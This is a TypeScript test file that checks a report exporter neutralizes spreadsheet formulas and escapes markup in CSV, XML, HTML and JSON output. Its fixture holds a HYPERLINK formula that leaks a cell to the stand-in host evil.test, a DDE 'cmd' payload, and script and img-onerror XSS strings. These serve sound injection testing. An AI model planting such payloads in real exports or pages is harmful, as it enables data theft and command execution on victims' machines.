import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { create } from 'xmlbuilder2';
import { clients, sites } from '../../server/db/schema.ts';
import { renderReport } from '../../server/reports/formats/render.ts';
import type { ReportTable } from '../../server/reports/formats/report-table.ts';
import { setupAdmin, type Api } from '../helpers/api.ts';
import { backends } from '../helpers/db.ts';
import { startTestServer, type TestServer } from '../helpers/server.ts';
import { assignMachine, createMachine, createUser } from '../helpers/users.ts';

/**
 * Hostile names in reports: commas, quotes, markup, ampersands, newlines and spreadsheet formulas in client, site,
 * machine and user names and in notes. CSV must parse back cell for cell with formulas neutralized (OWASP: a leading
 * single quote), XML must parse back to the same text, HTML must never carry the markup raw.
 */
const HOSTILE = {
  client: '=HYPERLINK("http://evil.test/?x="&A1,"Click, me")',
  site: '+Site, "North"\n<b>bold</b> & co',
  host: '<script>alert("host")</script>',
  user: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  note: '-2+3 & <img src=x onerror=alert(1)>\r\nline two, "quoted"',
};
const FORMULA_START = /^[=+\-@\t\r]/;
const neutralized = (value: string) => (FORMULA_START.test(value) ? `'${value}` : value);

describe('format writers neutralize every formula trigger', () => {
  it('prefixes cells starting with =, +, -, @, tab or CR with a quote in CSV, and leaves others alone', () => {
    const values = ['=1+1', '+1', '-1', '@A1', '\tx', '\rx', 'safe', 'a=b', ''];
    const table: ReportTable = {
      title: 't',
      filename: 't',
      xmlRoot: 'r',
      xmlRow: 'i',
      columns: [{ key: 'v', header: 'V' }],
      rows: values.map((v) => ({ v })),
      generatedAt: new Date(),
    };
    const csv = renderReport(table, 'csv').body;
    const parsed = (parse(csv) as string[][]).slice(1).map((r) => r[0]);
    expect(parsed).toEqual(["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", 'safe', 'a=b', '']);
    expect(csv.endsWith('\r\n')).toBe(true);
    // XML cannot carry most control characters at all: they are replaced, never emitted raw.
    const xml = renderReport({ ...table, rows: [{ v: 'a\u0000b\u001fc' }] }, 'xml').body;
    expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
    expect(create(xml).root().node.textContent).toContain('a\uFFFDb\uFFFDc');
  });
});

describe.each(backends())('hostile names in reports on %s', (backend) => {
  let server: TestServer;
  let admin: Api;
  let userEmail: string;

  beforeAll(async () => {
    server = await startTestServer({ backend });
    ({ api: admin } = await setupAdmin(server));
    const db = server.running.ctx.db;
    // Straight to the tables: these names must survive whatever the input validation of the day allows.
    const [client] = await db.insert(clients).values({ name: HOSTILE.client }).returning();
    const [site] = await db.insert(sites).values({ clientId: client.id, name: HOSTILE.site }).returning();
    const machine = await createMachine(server, site.id, HOSTILE.host);
    const user = await createUser(server, { role: 'remote_workforce', name: HOSTILE.user, email: '+hostile.user@example.test' });
    userEmail = user.email;
    const created = await admin.post(`/api/v1/machines/${machine.id}/assignments`, { userId: user.id, rights: ['terminal'], note: HOSTILE.note });
    expect(created.status).toBe(201);
    // A second row whose values are all harmless, so the check below proves rows do not bleed into each other.
    const [plainSite] = await db.insert(sites).values({ clientId: client.id, name: 'Plain' }).returning();
    await assignMachine(server, user.id, (await createMachine(server, plainSite.id, 'plain-host')).id, ['view_only']);
    expect((await db.select().from(sites).where(eq(sites.clientId, client.id))).length).toBe(2);
  });
  afterAll(async () => {
    await server?.close();
  });

  for (const report of ['assignments', 'access-review'] as const) {
    const expectedCells = () => ({ Client: HOSTILE.client, Site: HOSTILE.site, Machine: HOSTILE.host, User: HOSTILE.user, Email: userEmail });

    it(`${report}: JSON round-trips exactly`, async () => {
      const res = await admin.get(`/api/v1/reports/${report}?format=json`);
      const row = res.body.rows.find((r: { machine: string; user: string }) => r.machine === HOSTILE.host && r.user === HOSTILE.user);
      expect(row).toMatchObject({ client: HOSTILE.client, site: HOSTILE.site, email: userEmail });
      if (report === 'assignments') expect(row.note).toBe(HOSTILE.note);
    });

    it(`${report}: CSV parses back cell for cell, formulas neutralized`, async () => {
      const res = await admin.get(`/api/v1/reports/${report}?format=csv`);
      expect(res.status).toBe(200);
      const records = parse(res.body, { columns: true }) as Record<string, string>[];
      const row = records.find((r) => r.Machine === HOSTILE.host && r.User === neutralized(HOSTILE.user));
      expect(row, 'hostile row present').toBeDefined();
      for (const [column, value] of Object.entries(expectedCells())) expect(row![column], column).toBe(neutralized(value));
      expect(row!.Client.startsWith("'=")).toBe(true);
      expect(row!.Site.startsWith("'+")).toBe(true);
      expect(row!.User.startsWith("'@")).toBe(true);
      expect(row!.Email.startsWith("'+")).toBe(true);
      if (report === 'assignments') expect(row!.Note).toBe(`'${HOSTILE.note}`);
      // No cell anywhere starts with a formula trigger.
      for (const record of records) for (const cell of Object.values(record)) expect(FORMULA_START.test(cell), cell).toBe(false);
      const plain = records.find((r) => r.Machine === 'plain-host');
      expect(plain?.Site).toBe('Plain');
    });

    it(`${report}: XML parses back to the same text`, async () => {
      const res = await admin.get(`/api/v1/reports/${report}?format=xml`);
      expect(res.status).toBe(200);
      expect(res.body).not.toContain('<script>');
      const root = create(res.body).root().node as unknown as Element;
      const rows = Array.from(root.children);
      const text = (row: Element, name: string) => row.getElementsByTagName(name)[0]?.textContent;
      const row = rows.find((r) => text(r, 'machine') === HOSTILE.host && text(r, 'user') === HOSTILE.user);
      expect(row, 'hostile row present').toBeDefined();
      expect(text(row!, 'client')).toBe(HOSTILE.client);
      expect(text(row!, 'site')).toBe(HOSTILE.site);
      expect(text(row!, 'email')).toBe(userEmail);
      // A conforming XML parser turns a CR LF line end into LF (xmlbuilder2's keeps it); everything else is exact.
      const lines = (s: string | null | undefined) => s?.replace(/\r\n?/g, '\n');
      if (report === 'assignments') expect(lines(text(row!, 'note'))).toBe(lines(HOSTILE.note));
    });

    it(`${report}: HTML carries no raw markup from the data`, async () => {
      const res = await admin.get(`/api/v1/reports/${report}?format=html`);
      expect(res.status).toBe(200);
      expect(res.body).not.toMatch(/<script/i);
      expect(res.body).not.toContain('<img');
      expect(res.body).not.toContain('<b>bold</b>');
      expect(res.body).toContain('&lt;script&gt;alert(&quot;host&quot;)&lt;/script&gt;');
      expect(res.body).toContain('&lt;b&gt;bold&lt;/b&gt; &amp; co');
      expect(res.body).toContain('=HYPERLINK(&quot;http://evil.test/?x=&quot;&amp;A1,&quot;Click, me&quot;)');
      expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; style-src 'unsafe-inline'");
    });
  }
});
